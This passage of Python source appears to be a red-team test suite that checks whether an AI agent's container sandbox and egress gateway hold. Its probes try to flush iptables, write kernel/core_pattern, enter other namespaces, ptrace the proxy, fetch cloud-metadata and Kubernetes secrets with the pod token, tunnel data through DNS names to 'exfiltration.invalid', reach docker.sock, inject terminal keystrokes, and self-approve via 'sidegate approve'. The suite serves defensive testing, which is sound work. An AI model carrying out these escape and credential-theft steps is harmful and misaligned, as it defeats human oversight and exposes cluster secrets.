HARMLESS = ("EPERM", "EACCES", "EPROTONOSUPPORT", "EAFNOSUPPORT", "EOPNOTSUPP", "ENOSYS", "EINVAL")


@attempt("N6/rules-by-netlink")
def rules(facts):
    found = rules_by_netlink()
    bad = {name: answer for name, answer in found.items() if answer not in HARMLESS}
    if bad:
        escaped("; ".join("%s: %s" % each for each in sorted(bad.items())))
    all_die(found.values())


@attempt("N6/rules-by-iptables")
def iptables(facts):
    results = []
    for family, level in ((4, 0), (6, 41)):
        sock = socket.socket(INET[family], socket.SOCK_STREAM)
        try:
            sock.getsockopt(level, 64, 84)  # IPT_SO_GET_INFO
            escaped("the kernel shows its iptables")
        except OSError as fault:
            results.append(why(fault))
        try:
            sock.setsockopt(level, 64, b"nat" + b"\0" * 125)  # IPT_SO_SET_REPLACE
            escaped("the kernel took new iptables")
        except OSError as fault:
            results.append(why(fault))
        finally:
            sock.close()
    all_die(results)


@attempt("N6/programs-that-flush")
def programs(facts):
    results = []
    for argv in (["nft", "flush", "ruleset"], ["iptables", "-t", "nat", "-F"], ["ip6tables", "-t", "nat", "-F"], ["ip", "route", "add", "203.0.113.0/24", "dev", facts.device or "lo"],
                 ["ip", "link", "add", "x", "type", "dummy"], ["ip", "addr", "add", "240.240.0.9/32", "dev", "lo"], ["conntrack", "-F"], ["tc", "qdisc", "add", "dev", facts.device or "lo", "clsact"]):
        code = ran(argv)
        if code == 0:
            escaped("%s worked" % " ".join(argv))
        results.append("not installed" if code is None else "refused")
    all_die(results)


@attempt("N6/routes-and-addresses-by-netlink")
def routes(facts):
    loopback = struct.pack("=I", socket.if_nametoindex("lo"))
    address = struct.pack("=HH", 8, 2) + socket.inet_aton("203.0.113.9")
    found = {
        "add an address": netlink(0, [(20, NLM_REQUEST | NLM_ACK | 0x400, struct.pack("=BBBB", 2, 32, 0, 0) + loopback + address)]),
        "set lo down": netlink(0, [(16, NLM_REQUEST | NLM_ACK, struct.pack("=BxHiII", 0, 0, socket.if_nametoindex(facts.device or "lo"), 0, 0))]),
        "add a route": netlink(0, [(24, NLM_REQUEST | NLM_ACK | 0x400, struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 4, 253, 1, 0) + struct.pack("=HH", 8, 1) + socket.inet_aton("203.0.113.0") + struct.pack("=HH", 8, 4) + loopback)]),
        "add a rule": netlink(0, [(32, NLM_REQUEST | NLM_ACK | 0x400, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0))]),
    }
    bad = {name: answer for name, answer in found.items() if answer not in HARMLESS}
    if bad:
        escaped("; ".join("%s: %s" % each for each in sorted(bad.items())))
    all_die(found.values())


@attempt("N6/end-the-proxys-connections")
def sock_destroy(facts):
    """SOCK_DESTROY by inet_diag: with it an agent could end what it likes, at the moment it likes."""
    connected = [s for s in proxy_sockets(("tcp",)) if s["state"] == 1] or [{"local": ("127.0.0.1", GATE["capture"]), "remote": ("0.0.0.0", 0)}]
    s = connected[0]
    body = struct.pack("=BBBBI", socket.AF_INET, 6, 0, 0, 0xffffffff) + struct.pack("!HH", s["local"][1], s["remote"][1])
    body += socket.inet_aton(s["local"][0]) + b"\0" * 12 + socket.inet_aton(s["remote"][0]) + b"\0" * 12 + struct.pack("=III", 0, 0xffffffff, 0xffffffff)
    answer = netlink(4, [(21, NLM_REQUEST | NLM_ACK, body)])
    if answer in HARMLESS or answer == "ENOENT":
        died(answer)
    escaped("the kernel says %s" % answer)


@attempt("N6/sysctls")
def sysctls(facts):
    results = []
    for path, value in (("net/ipv4/conf/all/route_localnet", "1"), ("net/ipv4/ip_forward", "1"), ("net/ipv4/ping_group_range", "0 2147483647"), ("net/netfilter/nf_conntrack_max", "1"),
                        ("net/ipv4/conf/all/accept_local", "1"), ("kernel/core_pattern", "|/x"), ("kernel/modprobe", "/x"), ("fs/suid_dumpable", "2")):
        try:
            with open("/proc/sys/" + path) as file:
                before = file.read()
            with open("/proc/sys/" + path, "w") as file:
                file.write(before)
            escaped("/proc/sys/%s can be written" % path)
        except OSError as fault:
            results.append(why(fault))
    all_die(results)


def ran(argv, stdin=b"", env=None):
    """A program's exit code; None: not there."""
    try:
        process = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=env)
    except OSError:
        return None
    try:
        ran.said = process.communicate(stdin, timeout=15)[0]
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        return -1
    return process.returncode


def again(inside, prefix):
    """This text once more, as another: its exit code and what it prints. None: the prefix does not start."""
    text = globals().get("SOURCE") or "\n".join(lines(__file__))
    code = ran(prefix + [sys.executable, "-c", "import sys; t = sys.stdin.read(); exec(compile(t, 'attempts', 'exec'), {'__name__': '__main__', 'SOURCE': t})", "--inside", inside], text.encode())
    return None if code is None else (code, ran.said.decode(errors="replace").strip())


@attempt("N6/user-namespace")
def user_namespace(facts):
    """Root in a user namespace of its own: the pod's rules are not its own."""
    tried = []
    for prefix in (["unshare", "--user", "--map-root-user", "--"], ["unshare", "--user", "--map-root-user", "--net", "--"], ["unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "--"]):
        told = again("namespace", prefix)
        if told is None:
            return without_unshare()
        code, said = told
        if code == 1 and "ESCAPED: " in said:
            escaped("in %s: %s" % (" ".join(prefix[1:-1]), said[-200:]))
        tried.append(said.splitlines()[-1][:60] if said else "exit %d" % code)
    all_die(tried)


def without_unshare():
    if LIBC is None:
        skipped("neither unshare(1) nor ctypes is here")
    child = os.fork()
    if child == 0:
        os._exit(0 if LIBC.unshare(0x10000000) == 0 else ctypes.get_errno())
    code = os.waitpid(child, 0)[1] >> 8
    died("unshare: %s" % errno.errorcode.get(code, code)) if code else died("made, and then the rules are still not its own: see rules-by-netlink")


@attempt("N6/enter-another-namespace")
def setns(facts):
    results = []
    for pid in ["1"] + [str(pid) for pid in facts.proxy_pids] + [str(os.getppid())]:
        for kind in ("net", "mnt", "pid", "user"):
            path = "/proc/%s/ns/%s" % (pid, kind)
            try:
                if os.readlink(path) == os.readlink("/proc/self/ns/" + kind):
                    continue
                code = ran(["nsenter", "--%s=%s" % ({"mnt": "mount"}.get(kind, kind), path), "--", "true"])
                if code == 0:
                    escaped("entered %s" % path)
                results.append("refused" if code is not None else "no nsenter here")
            except OSError as fault:
                results.append(why(fault))
    all_die(results or ["no other namespace is seen"])


@attempt("N6/mounts-and-devices")
def mounts(facts):
    results = []
    for argv in (["mount", "-t", "tmpfs", "none", "/mnt"], ["mount", "-o", "remount,rw", "/"], ["mount", "-t", "proc", "proc", "/mnt"], ["mount", "--bind", "/tmp", "/mnt"], ["umount", "/etc/ssl/certs/ca-certificates.crt"],
                 ["mount", "-t", "cgroup2", "none", "/mnt"]):
        code = ran(argv)
        if code == 0:
            escaped("%s worked" % " ".join(argv))
        results.append("not installed" if code is None else "refused")
    for name, device in (("disk", (8, 0)), ("memory", (1, 1)), ("tun", (10, 200)), ("kvm", (10, 232))):
        path = "/tmp/.redteam-%d-%s" % (os.getpid(), name)
        try:
            os.mknod(path, 0o600 | 0o020000 if name != "disk" else 0o600 | 0o060000, os.makedev(*device))
            os.close(os.open(path, os.O_RDWR))
            escaped("the node's %s can be opened" % name)
        except OSError as fault:
            results.append("mknod: " + why(fault))
        finally:
            if os.path.lexists(path):
                os.unlink(path)
    for path in ("/dev/net/tun", "/dev/kvm", "/dev/vhost-vsock", "/dev/vhost-net", "/dev/mem"):
        try:
            os.close(os.open(path, os.O_RDWR))
            if path == "/dev/net/tun":
                results.append("tun opens")  # an interface of it needs NET_ADMIN
                continue
            escaped("%s opens" % path)
        except OSError as fault:
            results.append(why(fault))
    all_die(results)


@attempt("N6/node-by-its-files")
def node_files(facts):
    """cgroup release agents, sysrq, the kernel's uevent helper: old ways from a container to its node."""
    results = []
    for path in ("/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/rdma/release_agent", "/sys/fs/cgroup/memory/release_agent", "/proc/1/root/proc/sysrq-trigger"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            escaped("%s opens for writing" % path)
        except OSError as fault:
            results.append(why(fault))
    all_die(results)


# --- N8: names --------------------------------------------------------------------------------------------------------


def question(name, kind, edns=True):
    body = b"".join(struct.pack("B", len(label)) + label.encode() for label in name.split(".") if label) + b"\0"
    extra = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 0) if edns else b""
    return struct.pack("!HHHHHH", 0x5347, 0x0100, 1, 0, 0, 1 if edns else 0) + body + struct.pack("!HH", kind, 1) + extra


def name_end(message, at):
    while message[at]:
        if message[at] & 0xC0:
            return at + 2
        at += 1 + message[at]
    return at + 1


def answers(message):
    """(rcode, A and AAAA addresses, other answers, extended error codes) of a reply; rubbish raises."""
    _, flags, questions, count, authority, extra = struct.unpack("!HHHHHH", message[:12])
    at = 12
    for _ in range(questions):
        at = name_end(message, at) + 4
    addresses, others, extended = [], 0, []
    for i in range(count + authority + extra):
        at = name_end(message, at)
        kind, _, _, length = struct.unpack("!HHIH", message[at:at + 10])
        data = message[at + 10:at + 10 + length]
        at += 10 + length
        if kind in (1, 28) and i < count:
            addresses.append(socket.inet_ntop(socket.AF_INET if kind == 1 else socket.AF_INET6, data))
        elif i < count:
            others += 1
        elif kind == 41:
            while len(data) >= 4:
                code, size = struct.unpack("!HH", data[:4])
                if code == 15:
                    extended.append(struct.unpack("!H", data[4:6])[0])
                data = data[4 + size:]
    return flags & 15, addresses, others, extended


def resolved(server, name, kind, tcp=False):
    family = 6 if ":" in server else 4
    sock = socket.socket(INET[family], socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    sock.settimeout(WAIT_S)
    packet = question(name, kind)
    try:
        sock.connect((server, 53))
        sock.send(struct.pack("!H", len(packet)) + packet if tcp else packet)
        reply = sock.recv(4096)
        if tcp:
            while 2 <= len(reply) < 2 + struct.unpack("!H", reply[:2])[0]:
                reply += sock.recv(4096)
            reply = reply[2:]
    except socket.timeout:
        return "silence"
    except OSError as fault:
        return why(fault)
    finally:
        sock.close()
    return answers(reply) if len(reply) >= 12 else "closed"


SYNTHETIC = ("240.240.", "fd53:6467:6174:6500:")


def ask_names(server, names, kinds, tcp=False):
    """Ends the attempt where somebody else than the gateway's resolver answers."""
    results = []
    for name in names:
        for kind in kinds:
            told = resolved(server, name, kind, tcp)
            if told == "silence":
                escaped("%s is asked and does not answer: the gateway's resolver always does" % server)
            if isinstance(told, str):
                results.append(told)
                continue
            rcode, addresses, others, extended = told
            real = [a for a in addresses if not a.startswith(SYNTHETIC)]
            if real or others:
                escaped("%s answers %s type %d: %s" % (server, name, kind, real or "%d records" % others))
            if rcode == 3 and not extended and not name.endswith((".svc.cluster.local", ".cluster.local")):
                escaped("%s answers %s without the gateway's reason: another resolver" % (server, name))
            results.append({0: "no data", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}.get(rcode, "rcode %d" % rcode))
    all_die(results)


CHANNEL = "%s.%s.exfiltration.invalid" % ("s3cr3t" * 10, "d4t4" * 15)


@attempt("N8/other-resolvers", [4, 6])
def other_resolvers(facts, family):
    servers = ["8.8.8.8", FAR[4], "127.0.0.53", "169.254.169.253"] + [n for n in facts.nodes if ":" not in n] if family == 4 else ["2001:4860:4860::8888", "::1"]
    results = []
    for server in servers:
        for tcp in (False, True):
            try:
                ask_names(server, ["redteam.sidegate.invalid"], [1, 16], tcp)
            except Outcome as outcome:
                if outcome.kind != "died":
                    raise
                results.append(outcome.detail)
    all_die(results)


@attempt("N8/names-as-a-channel")
def channel(facts):
    ask_names((facts.resolvers or ["192.0.2.53"])[0], [CHANNEL, "0X20.CaSe." + CHANNEL], [1, 28, 16, 10, 5, 15, 65, 64, 255])


@attempt("N8/names-of-the-cluster")
def cluster_names(facts):
    ask_names((facts.resolvers or ["192.0.2.53"])[0], ["kubernetes.default.svc.cluster.local", "kube-dns.kube-system.svc.cluster.local", "any.any.svc.cluster.local"], [16, 33, 10])


# --- N10: addresses that nobody gave us -------------------------------------------------------------------------------

METADATA = (("aws", "169.254.169.254", 80, "/latest/meta-data/iam/security-credentials/", ()), ("gcp", "169.254.169.254", 80, "/computeMetadata/v1/instance/service-accounts/default/token", ("Metadata-Flavor: Google",)),
            ("azure", "169.254.169.254", 80, "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", ("Metadata: true",)), ("azure-wire", "168.63.129.16", 80, "/?comp=versions", ()),
            ("ecs", "169.254.170.2", 80, "/v2/credentials", ()), ("eks", "169.254.170.23", 80, "/v1/credentials", ()), ("alibaba", "100.100.100.200", 80, "/latest/meta-data/", ()), ("aws-v6", "fd00:ec2::254", 80, "/latest/meta-data/", ()))
for _name, _host, _port, _path, _headers in METADATA:
    attempt("N10/metadata-" + _name)(lambda facts, h=_host, p=_port, path=_path, headers=_headers: ask_plain(h, p, get(h, path, headers)))


@attempt("N10/node-ports")
def node_ports(facts):
    if not facts.nodes:
        died("no node is known: there is no route")
    results = []
    for node in facts.nodes:
        for port, secure in ((10250, True), (10255, False), (10256, False), (10248, False), (6443, True), (2379, True), (9100, False), (22, False), (111, False), (30000, False), (32767, False)):
            try:
                if secure and ssl is not None:
                    ask_tls(node, port, None)
                else:
                    ask_plain(node, port, get(node, "/pods" if port < 11000 else "/"))
            except Outcome as outcome:
                if outcome.kind != "died":
                    raise
                results.append(outcome.detail)
    all_die(results)


ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount/token"


@attempt("N10/api-server")
def api_server(facts):
    """By address, without a name in TLS and with one, with the token that the pod has."""
    host, port = os.environ.get("KUBERNETES_SERVICE_HOST"), int(os.environ.get("KUBERNETES_SERVICE_PORT", "443"))
    if not host:
        died("no API server is known")
    token = "".join(lines(ACCOUNT))
    bearer = ("Authorization: Bearer " + token,) if token else ()
    results = ["with a token" if token else "no token to bring"]
    for name in (None, "kubernetes.default.svc", "kubernetes"):
        try:
            ask_tls(host, port, name, get(name or host, "/api/v1/secrets", bearer))
        except Outcome as outcome:
            if outcome.kind != "died":
                raise
            results.append(outcome.detail)
    all_die(results)


# --- N11: the gateway's own ports -------------------------------------------------------------------------------------


@attempt("N11/only-known-ports-listen")
def listening(facts):
    known = {(GATE["capture"], True), (GATE["dns"], True), (GATE["admin"], True), (GATE["admin"], False)}
    for s in proxy_sockets(("tcp", "tcp6")):
        inner = s["local"][0].startswith("127.") or s["local"][0] == "::1"
        if s["state"] == 10 and (s["local"][1], inner) not in known:
            escaped("the proxy listens at %s port %d" % s["local"])
    died("capture and resolver on loopback, metrics")


@attempt("N11/admin-port")
def admin(facts):
    """GET of three pages; nothing that changes, configures or shows anything else."""
    results = []
    for host in [h for h in (facts.own[4], facts.own[6], "127.0.0.1") if h]:
        for method, path in (("GET", "/"), ("GET", "/config"), ("GET", "/debug/pprof"), ("GET", "/env"), ("GET", "/../../etc/passwd"), ("GET", "//metrics/..%2f"), ("POST", "/quitquitquit"), ("POST", "/ready"), ("PUT", "/metrics"),
                             ("DELETE", "/live"), ("CONNECT", "169.254.169.254:80"), ("TRACE", "/metrics"), ("GET", "http://169.254.169.254/")):
            try:
                sock = dial(host, GATE["admin"])
            except Outcome as outcome:
                results.append("nobody there" if "ECONNREFUSED" in outcome.detail else outcome.detail)
                break
            head = heard(sock, ("%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (method, path, host)).encode())
            status = head.split(b" ")[1:2]
            if status and status[0][:1] == b"2":
                escaped("%s %s is answered: %r" % (method, path, head[:80]))
            results.append((status or [b"closed"])[0].decode())
    all_die(results)


@attempt("N11/metrics-tell-nothing")
def metrics(facts):
    for host in [h for h in (facts.own[4], "127.0.0.1") if h]:
        try:
            page = heard(dial(host, GATE["admin"]), get(host, "/metrics"), 1 << 20).lower()
        except Outcome:
            continue
        for word in (b"password", b"bearer ", b"secret=", b"select ", b"/v1/", b"authorization"):
            if word in page:
                escaped("the metrics show %r" % word)
        died("%d bytes, no secret, path or statement" % len(page))
    died("no metrics are seen from here")


@attempt("N11/capture-port-as-a-proxy")
def own_listener(facts):
    """The listeners spoken to directly, and named as a destination through themselves."""
    results = []
    for host, port, send in (("127.0.0.1", GATE["capture"], get("127.0.0.1")), ("127.0.0.1", GATE["capture"], b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n"),
                             ("127.0.0.1", GATE["capture"], b"\x05\x01\x00"), ("127.0.0.1", GATE["capture"], b"\x04\x01\x00\x50\xa9\xfe\xa9\xfe\0"), ("127.0.0.1", GATE["capture"], b"PROXY TCP4 1.2.3.4 169.254.169.254 1 80\r\n" + get("169.254.169.254")),
                             ("::1", GATE["capture"], get("::1")), (FAR[4], 3128, b"CONNECT 127.0.0.1:15890 HTTP/1.1\r\nHost: 127.0.0.1:15890\r\n\r\n"), (FAR[4], 80, get("127.0.0.1:15890", "http://127.0.0.1:15890/metrics")),
                             (FAR[4], GATE["capture"], get(FAR[4])), (FAR[4], GATE["admin"], get(FAR[4], "/metrics"))):
        try:
            answer = heard(dial(host, port), send)
            if answer and (b" 403 " not in answer[:40] and b" 4" not in answer[:12]):
                escaped("%s:%d answers %r" % (host, port, answer[:60]))
            results.append("refused" if answer else "closed")
        except Outcome as outcome:
            if outcome.kind != "died" and "ECONNREFUSED" not in outcome.detail:
                raise
            results.append(outcome.detail.split(",")[0])
    all_die(results)


@attempt("N11/abstract-sockets")
def abstract(facts):
    for line in lines("/proc/net/unix")[1:]:
        name = line.split()[-1]
        if not name.startswith("@"):
            continue
        sock = socket.socket(socket.AF_UNIX)
        sock.settimeout(1.0)
        try:
            sock.connect("\0" + name[1:])
            escaped("abstract socket %s takes a connection" % name)
        except OSError:
            pass
        finally:
            sock.close()
    died("none takes a connection")


# --- N12, E10: the proxy itself ---------------------------------------------------------------------------------------


@attempt("N12/become-the-proxy")
def become(facts):
    uid = facts.proxy_uid or PROXY_UIDS[0]
    results = []
    for call in (lambda: os.setuid(uid), lambda: os.setresuid(-1, uid, -1), lambda: os.setreuid(uid, uid)):
        child = os.fork()
        if child == 0:
            try:
                call()
                os._exit(0)
            except OSError as fault:
                os._exit(fault.errno or 255)
        code = os.waitpid(child, 0)[1] >> 8
        if code == 0 and facts.uid != uid:
            escaped("became uid %d" % uid)
        results.append(errno.errorcode.get(code, str(code)))
    path = "/tmp/.redteam-%d" % os.getpid()
    try:
        with open(path, "w") as file:
            file.write("")
        os.chown(path, uid, -1)
        escaped("a file can be given to uid %d: a setuid program of it" % uid)
    except OSError as fault:
        results.append("chown: %s" % why(fault))
    finally:
        if os.path.exists(path):
            os.unlink(path)
    for argv in (["su", "-s", "/bin/true", "#%d" % uid], ["setpriv", "--reuid=%d" % uid, "--", "true"], ["sudo", "-n", "-u", "#%d" % uid, "true"], ["chroot", "--userspec=%d" % uid, "/", "true"]):
        if ran(argv) == 0:
            escaped("%s worked" % " ".join(argv))
    told = again("datagram", ["unshare", "--user", "--map-user=%d" % uid, "--"])
    if told is not None and told[0] == 1 and "ESCAPED: " in told[1]:
        escaped("as uid %d of a user namespace: %s" % (uid, told[1][-120:]))
    all_die(results)


@attempt("N12/setuid-programs")
def setuid_programs(facts):
    """no_new_privs: a setuid program gains nothing."""
    status = {line.split(":")[0]: line.split(":")[1].strip() for line in lines("/proc/self/status") if ":" in line}
    held = [each for each in ("CapInh", "CapPrm", "CapEff", "CapAmb") if int(status.get(each, "0"), 16)]
    if held:
        escaped("this process has capabilities: %s" % ", ".join("%s=%s" % (each, status[each]) for each in held))
    if status.get("NoNewPrivs") != "1":
        escaped("new privileges may be gained (NoNewPrivs is %s)" % status.get("NoNewPrivs"))
    died("no capability, no new privileges, seccomp %s" % {"0": "off", "2": "on"}.get(status.get("Seccomp", ""), "unknown"))


@attempt("E10/processes-of-the-proxy")
def proxy_process(facts):
    if not facts.proxy_pids:
        died("no process of the proxy is seen")
    results = []
    for pid in facts.proxy_pids:
        for name in ("mem", "environ", "maps", "auxv", "io", "stack", "syscall", "pagemap", "personality"):
            try:
                with open("/proc/%d/%s" % (pid, name), "rb") as file:
                    file.read(1)
                escaped("/proc/%d/%s can be read" % (pid, name))
            except OSError as fault:
                results.append(why(fault))
        for name in ("fd", "task/%d/fd" % pid, "map_files", "root", "cwd"):
            base = "/proc/%d/%s" % (pid, name)
            try:
                # Root may count the descriptors of a process that is not dumpable (the folder is root's); not follow one.
                for entry in os.listdir(base):
                    try:
                        os.stat(os.path.join(base, entry))
                        escaped("%s/%s can be followed" % (base, entry))
                    except OSError as fault:
                        results.append(why(fault))
            except OSError as fault:
                results.append(why(fault))
        try:
            os.kill(pid, 0)
            escaped("the proxy can be signalled")
        except OSError as fault:
            results.append("kill: " + why(fault))
        results += by_system_call(pid)
    all_die(results)


def by_system_call(pid):
    if LIBC is None:
        return ["no ctypes for ptrace"]
    results = []
    target = ctypes.create_string_buffer(8)
    vector = struct.pack("=QQ", ctypes.addressof(target), 8)
    remote = struct.pack("=QQ", 0x400000, 8)
    for name, call in (("ptrace", lambda: LIBC.ptrace(16, pid, 0, 0)), ("seize", lambda: LIBC.ptrace(0x4206, pid, 0, 0)), ("process_vm_readv", lambda: LIBC.process_vm_readv(pid, vector, 1, remote, 1, 0)),
                       ("prlimit", lambda: LIBC.prlimit(pid, 4, None, ctypes.create_string_buffer(16)))):
        ctypes.set_errno(0)
        if call() >= 0:
            escaped("%s of process %d worked" % (name, pid))
        results.append("%s: %s" % (name, errno.errorcode.get(ctypes.get_errno(), "?")))
    return results


OURS = os.path.realpath("/var/run/sidegate")


@attempt("E10/folders-of-the-proxy")
def folders(facts):
    """Its state (the authority's key, the spool), its token: not mounted here."""
    for name in ("state", "token", "account", "bundle"):
        path = os.path.join(OURS, name)
        try:
            found = os.listdir(path)
            escaped("%s is here: %s" % (path, ", ".join(found[:5])))
        except OSError:
            pass
    for root, _, files in os.walk(OURS):
        for name in files:
            with open(os.path.join(root, name), "rb") as file:
                if b"PRIVATE KEY" in file.read(1 << 20):
                    escaped("a private key lies in %s" % os.path.join(root, name))
    died("not here")


@attempt("E10/own-environment")
def environment(facts):
    for name, value in os.environ.items():
        if name.startswith("SIDEGATE_") and ("KEY" in name or "TOKEN" in name or "PRIVATE" in value):
            escaped("%s is in this container's environment" % name)
    token = "".join(lines(ACCOUNT))
    if token:
        escaped("a service account's token lies at %s" % ACCOUNT)
    died("no key, no token")


@attempt("E3/write-what-is-trusted")
def trust(facts):
    """Our trust files are mounted read-only: whoever could write them could have the agent trust somebody else's gateway."""
    mounted = [line.split()[4] for line in lines("/proc/self/mountinfo") if "sidegate-trust" in line.split()[3] or line.split()[4].startswith(OURS) or line.split()[4].endswith(("ca-certificates.crt", "serviceaccount/ca.crt"))]
    results = []
    for path in mounted:
        target = os.path.join(path, "redteam") if os.path.isdir(path) else path
        try:
            os.close(os.open(target, os.O_WRONLY | (os.O_CREAT if os.path.isdir(path) else 0), 0o600))
            escaped("%s opens for writing" % target)
        except OSError as fault:
            results.append(why(fault))
        for call in (lambda t=target: os.unlink(t), lambda t=target: os.rename("/etc/hostname", t)):
            try:
                call()
                escaped("%s can be replaced" % target)
            except OSError as fault:
                results.append(why(fault))
    all_die(results or ["nothing of the gateway's is mounted here"])


# --- N13: neighbours --------------------------------------------------------------------------------------------------


def places(texts):
    for text in texts:
        host, _, port = text.rpartition(":")
        yield host.strip("[]"), int(port)


@attempt("N13/own-address-and-hairpin")
def hairpin(facts):
    """To its own pod's address a container may talk; by a Service's address it may not, and neither may a peer be reached."""
    results = []
    for family in (4, 6):
        if facts.own[family] is None:
            continue
        server = socket.socket(INET[family], socket.SOCK_STREAM)
        try:
            server.bind((facts.own[family], 0))
            server.listen(1)
            sock = dial(facts.own[family], server.getsockname()[1], family)
            results.append("itself: reached" if sock.getpeername()[0] == facts.own[family] else "?")
            sock.close()
        finally:
            server.close()
    for host, port in places(facts.options.service):
        try:
            ask_plain(host, port)
        except Outcome as outcome:
            if outcome.kind != "died":
                raise
            results.append("service: " + outcome.detail)
    all_die(results)


@attempt("N13/peers")
def peers(facts):
    results = []
    for host, port in places(facts.options.peer):
        for step in (lambda: ask_plain(host, port), lambda: ask_plain(host, port, b"\x16\x03\x01\0\0"), lambda: ask_plain(host, port, b""), lambda: ask_tls(host, port, None), lambda: ask_tls(host, port, "peer.invalid"),
                     lambda: ask_tls(host, port, "peer.invalid", b"", ask=b"\0\0\0\x08\x04\xd2\x16\x2f")):
            try:
                step()
            except Outcome as outcome:
                if outcome.kind != "died":
                    raise
                results.append(outcome.detail)
        results.append("udp: " + datagram((host, port)))
    died(", ".join(sorted(set(results)))) if results else skipped("no --peer was given")


@attempt("N13/witnesses")
def witnesses(facts):
    """Somebody who answers whoever reaches them, by TCP and by UDP."""
    results = []
    for host, port in places(facts.options.witness):
        for prepare in (None, lambda s: s.bind(("", 0)), lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)):
            try:
                ask_plain(host, port, MARK, prepare=prepare)
            except Outcome as outcome:
                if outcome.kind != "died":
                    raise
                results.append(outcome.detail)
        results.append("udp: " + datagram((host, port)))
    died(", ".join(sorted(set(results)))) if results else skipped("no --witness was given")


@attempt("N13/answer-of-nobody", [4, 6])
def answer_of_nobody(facts, family):
    """From a declared inbound port, as if it were an answer."""
    port = facts.options.inbound
    def bound(sock):
        for option in (2, 15):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.bind(("", port))
    refused = datagram((FAR[family], 40000), prepare=bound)
    try:
        ask_plain(FAR[family], 40000, family=family, prepare=bound)
    except Outcome as outcome:
        if outcome.kind != "died" and "EADDRINUSE" not in outcome.detail:
            raise
        all_die([refused, outcome.detail.split(",")[0]])


@attempt("N9/names-that-are-not-the-destination")
def fronting(facts):
    """A name that a policy may allow, in front of an address that it does not mean; and another Host behind an allowed name."""
    results = []
    for name in facts.options.name or ["kubernetes.default.svc", "example.com"]:
        for step in (lambda: ask_plain(FAR[4], 80, get(name)), lambda: ask_tls(FAR[4], 443, name)):
            try:
                step()
            except Outcome as outcome:
                if outcome.kind not in ("died", "skipped"):
                    raise
                results.append(outcome.detail)
    all_die(results)


# --- R: doors that are not IP -----------------------------------------------------------------------------------------

DOORS = ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/k3s/containerd/containerd.sock", "/var/run/crio/crio.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
         "/run/systemd/journal/stdout", "/var/lib/kubelet/pod-resources/kubelet.sock", "/var/lib/kubelet/device-plugins/kubelet.sock", "/run/nscd/socket", "/var/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve",
         "/tmp/.X11-unix/X0", "/run/user/%d/bus" % os.getuid(), "/run/user/%d/systemd/private" % os.getuid(), "/tmp/tmux-%d/default" % os.getuid(), "/run/sidegate/approval.sock", "/run/snapd.socket", "/run/lxd.socket", "/dev/log")


@attempt("R2/unix-sockets-of-the-node")
def doors(facts):
    results = []
    named = [os.environ.get("SSH_AUTH_SOCK"), os.environ.get("DBUS_SESSION_BUS_ADDRESS", "").replace("unix:path=", "").split(",")[0], os.environ.get("TMUX", "").split(",")[0], os.environ.get("GPG_AGENT_INFO", "").split(":")[0]]
    listed = [line.split()[7] for line in lines("/proc/net/unix")[1:] if len(line.split()) > 7 and line.split()[7].startswith("/")]
    for path in [p for p in list(DOORS) + named + listed if p]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            sock = socket.socket(socket.AF_UNIX, kind)
            sock.settimeout(1.0)
            try:
                sock.connect(path)
                escaped("%s takes a connection" % path)
            except OSError as fault:
                results.append(why(fault))
            finally:
                sock.close()
    all_die(results)


@attempt("R3/inherited-descriptors")
def inherited(facts):
    """Nothing but the three of a program: what else is open came from whoever started us."""
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            to = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue
        if int(name) > 2 and not to.startswith(("/proc/", "/dev/null")):
            escaped("descriptor %s is %s" % (name, to))
    died("none")


@attempt("R3/type-into-the-terminal")
def tiocsti(facts):
    import fcntl
    for number in (0, 1, 2):
        if os.isatty(number):
            try:
                fcntl.ioctl(number, 0x5412, b" ")
                escaped("TIOCSTI: a character was put into the terminal")
            except OSError as fault:
                died(why(fault))
    died("no terminal")


@attempt("R1/approve-from-inside")
def approve(facts):
    for argv in (["sidegate", "approve"], ["kubectl", "sidegate", "approve"]):
        if ran(argv + ["--all"]) == 0:
            escaped("%s works here" % " ".join(argv))
    died("nobody here may")


# --- the run ----------------------------------------------------------------------------------------------------------

def inside(kind):
    """What is done in another namespace or as another uid: exit 1 is an escape, and the last line says which."""
    def datagrams():
        for family in (4, 6):
            yield "udp v%d" % family, (lambda: datagram((FAR[family], 443)))
    def connection():
        try:
            sock = dial(FAR[4], 80, silence="ESCAPED")
            sock.close()
            return "connected, so captured"
        except Outcome as outcome:
            if outcome.kind == "ESCAPED":
                raise
            return outcome.detail
    try:
        results = [step() for _, step in datagrams()]
        if kind == "namespace":
            # The rules of a network namespace of its own are its to see, and there is nothing in it.
            bad = {name: answer for name, answer in rules_by_netlink().items() if answer not in HARMLESS + ("ENOENT", "nothing there", "OK", "no answer")}
            if bad:
                escaped("rules are seen: %s" % bad)
            results.append(connection())
            own = os.readlink("/proc/self/ns/net") != os.environ.get("REDTEAM_NET", "")
            if not own and "OK" in rules_by_netlink().values():
                escaped("the pod's rules were changed")
    except Outcome as outcome:
        print("%s: %s" % (outcome.kind, outcome.detail))
        return 1 if outcome.kind == "ESCAPED" else 0
    print("died: " + ", ".join(sorted(set(results))))
    return 0


def late(*_):
